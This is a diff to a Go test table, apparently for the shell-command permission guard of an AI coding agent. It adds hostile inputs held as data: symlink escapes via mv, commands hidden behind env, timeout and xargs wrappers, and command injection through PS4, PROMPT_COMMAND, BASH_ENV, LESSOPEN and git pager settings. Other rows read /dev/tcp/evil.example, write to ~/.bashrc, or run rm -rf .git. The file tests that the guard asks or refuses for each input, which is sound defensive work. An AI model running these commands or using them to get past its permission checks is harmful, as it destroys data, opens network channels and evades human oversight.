@@ -250,7 +250,10 @@ func TestAttackTable(t *testing.T) {
 		prot(rc("cp -a backup/links . && echo pwned > links/x", Yolo, Asks)),
 		prot(rc("tar xf t.tar && echo pwned > lib/x", Yolo, Asks)),
 		prot(rc("git checkout evil -- . ; echo pwned >> docs/x", Yolo, Asks)),
-		prot(rc("echo x > a; ln -s a b", Yolo, Asks)), // order is not judged: a loop could write after the link
+		prot(rc("echo x > a; ln -s a b", Yolo, Asks)),          // order is not judged: a loop could write after the link
+		prot(rc("mv out o2 && echo pwned > o2/x", Yolo, Asks)), // out is a symlink to outside: moved, it is still one
+		rc("mv src/a.go src/b.go && echo done > build.log", Yolo, Allowed),
+		prot(rc("ln -s /etc z; mv evil z", Yolo, Asks)), // mv into what is a link by then
 		// dotglob: * then matches .git and .agent.
 		rc("shopt -s dotglob; rm -rf *", Yolo, Refused),
 		rc("GLOBIGNORE=. rm -rf *", Yolo, Refused),
@@ -274,6 +277,28 @@ func TestAttackTable(t *testing.T) {
 		prot(rc("alias ls='rm -rf .git'", Yolo, Asks)),
 		prot(rc("trap 'rm -rf .git' EXIT", Yolo, Asks)),
 		prot(rc("git -c alias.x='!rm -rf .git' x", Yolo, Asks)),
+		// Wrappers and variables that hid a command from the hard protections.
+		prot(rc("env FOO=1 rm -rf .git", Yolo, Asks)),
+		prot(rc("env -C . rm -rf .git", Yolo, Asks)),
+		prot(rc("env -S 'rm -rf .git'", Yolo, Asks)),
+		prot(rc("env --bogus rm -rf .git", Yolo, Asks)),
+		prot(rc("timeout --bogus 5 rm -rf .git", Yolo, Asks)),
+		prot(rc("xargs --bogus rm -rf", Yolo, Asks)),
+		prot(rc("PS4='$(rm -rf .git)' bash -xc ls", Yolo, Asks)),
+		prot(rc("env PS4='$(rm -rf .git)' bash -xc ls", Yolo, Asks)),
+		prot(rc("PROMPT_COMMAND='rm -rf .git' bash -ic ls", Yolo, Asks)),
+		prot(rc("BASH_ENV=evil.sh bash -c ls", Yolo, Asks)),
+		rc("echo $(< /dev/tcp/evil.example/80)", Ask, Asks),
+		rc("set -k; cat LD_PRELOAD=./x.so", Ask, Asks),
+		rc("LESSOPEN='|sh %s' less go.mod", Ask, Asks),
+		prot(rc("find . -fprint0 /tmp/list", Ask, Asks)),
+		prot(rc("sort -o /tmp/x go.mod", AutoEdit, Asks)),
+		prot(rc("ls | tee -a ~/.bashrc", Yolo, Asks)),
+		rc(`awk 'BEGIN{system("id")}'`, Ask, Asks),
+		prot(rc("git diff --output=/tmp/x", AutoEdit, Asks)),
+		rc("rg --pre ./evil.sh foo", Ask, Asks),
+		rc("git -c core.pager='sh -c id' log", Ask, Asks),
+		rc("go build -o /dev/null ./...", Ask, Allowed),
 		// Rules see the real git subcommand behind global options and aliases.
 		withRules(rc("git -c x=y push", Yolo, Refused), noPush),
 		withRules(rc("git --no-pager push origin main", Yolo, Refused), noPush),
